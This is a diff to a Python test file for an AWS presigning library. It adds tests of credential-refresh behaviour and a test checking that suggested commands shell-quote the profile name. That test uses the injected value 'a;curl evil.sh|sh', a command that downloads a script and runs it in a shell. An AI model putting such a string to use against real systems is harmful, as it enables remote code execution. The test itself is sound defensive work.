@@ -8,7 +8,7 @@ from botocore.credentials import RefreshableCredentials
 from support.clock import FakeClock
 
 from nb_presign.aws.place import Place
-from nb_presign.aws.signer.credentials import glance, look
+from nb_presign.aws.signer.credentials import glance, look, mend, no_credentials
 from nb_presign.errors import CredentialsExpiredError, NoCredentialsError
 
 HERE = Place("work")
@@ -105,6 +105,27 @@ class TestGlancing:
         assert self.at(session, fresh_for) is None
         assert not session.found._refresh_lock.locked()
         assert session.found._expiry_time == NOW + timedelta(seconds=left)
+
+    def test_nothing_is_renewed_after_a_look_for_longer(self):
+        # A chained role's: half an hour is all that there is, though an hour was asked for.
+        session = Session(renewable(timedelta(minutes=20), then=timedelta(minutes=30)))
+        told = look(session, HERE, FakeClock(NOW), fresh_for=3600)
+        session.found._refresh_using = None
+        assert self.at(session, 300) == told
+        assert session.found.get_frozen_credentials().access_key == "new"
+
+    def test_botocores_own_wish_to_renew_is_not_fulfilled(self):
+        session = Session(renewable(timedelta(minutes=30)))
+        session._credentials = session.found
+        session.found._advisory_refresh_timeout = 3600
+        session.found._refresh_using = None
+        assert self.at(session, 300).expires_at == NOW + timedelta(minutes=30)
+
+
+def test_commands_hold_a_profile_as_one_word():
+    place = Place("a;curl evil.sh|sh")
+    for hint in (mend("", place), mend("sso", place), no_credentials(place).hint):
+        assert " --profile 'a;curl evil.sh|sh'" in hint
 
 
 def test_a_botocore_that_keeps_its_facts_elsewhere():
